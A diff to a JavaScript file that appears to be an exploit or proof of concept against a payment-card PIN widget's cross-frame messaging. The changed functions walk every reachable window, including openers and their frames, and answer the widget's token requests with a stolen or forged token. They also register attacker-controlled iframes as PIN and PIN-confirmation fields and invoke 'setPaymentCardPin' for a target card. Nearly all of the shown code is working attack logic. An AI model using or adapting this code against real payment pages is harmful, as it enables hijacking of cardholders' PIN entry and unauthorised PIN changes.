@@ -30,17 +30,27 @@ const forgeries = (cardId) => [
  *
  * @param {MessagePort} port
  * @param {string} cardId
- * @param {readonly string[]} [names] of fields to take over
+ * @param {readonly HTMLIFrameElement[]} [fields] to take over
  */
-function drive(port, cardId, names = []) {
+function drive(port, cardId, fields = []) {
   port.onmessage = (event) => {
     heard.push({ port: event.data });
     if (event.data?.needToken) {
-      port.postMessage({ token: { request: event.data.needToken.request, value: "attackers.own.token" } });
+      const token = /** @type {any} */ (window).stolenToken ?? "attackers.own.token";
+      port.postMessage({ token: { request: event.data.needToken.request, token } });
+    }
+    if (event.data?.ready) {
+      // As the loader does, so that the fields announce themselves.
+      for (const field of fields) {
+        const tell = () => field.contentWindow?.postMessage(0, "*");
+        field.addEventListener("load", tell);
+        tell();
+      }
     }
   };
   port.postMessage({ start: { timeout: 5_000 } });
-  for (const id of names) port.postMessage({ addField: { id, kind: "pin" } });
+  const kinds = ["pin", "pinConfirm"];
+  fields.forEach(({ name }, index) => port.postMessage({ addField: { id: name, kind: kinds[index] ?? "pin" } }));
   port.postMessage({ call: { id: 7, operation: "setPaymentCardPin", input: { paymentCardId: cardId } } });
 }
 
@@ -60,18 +70,21 @@ function attack(target, cardId) {
 }
 
 /**
- * Every window that can be reached from here: those above, and their frames.
+ * Every window that can be reached from here: those above, those that opened this one, and the frames of all.
  *
  * @returns {Window[]}
  */
 function neighbours() {
   const found = new Set(/** @type {Window[]} */ ([]));
-  for (let above = window.parent; ; above = above.parent) {
-    if (above !== window) found.add(above);
-    for (let index = 0; index < above.length; index += 1) if (above[index] !== window) found.add(above[index]);
-    if (above === above.parent) break;
+  const starts = [window.parent, ...(window.opener ? [window.opener] : [])];
+  for (const start of starts) {
+    for (let above = start; ; above = above.parent) {
+      found.add(above);
+      for (let index = 0; index < above.length; index += 1) found.add(above[index]);
+      if (above === above.parent) break;
+    }
   }
-  if (window.opener) found.add(window.opener);
+  found.delete(window);
   return [...found];
 }
 
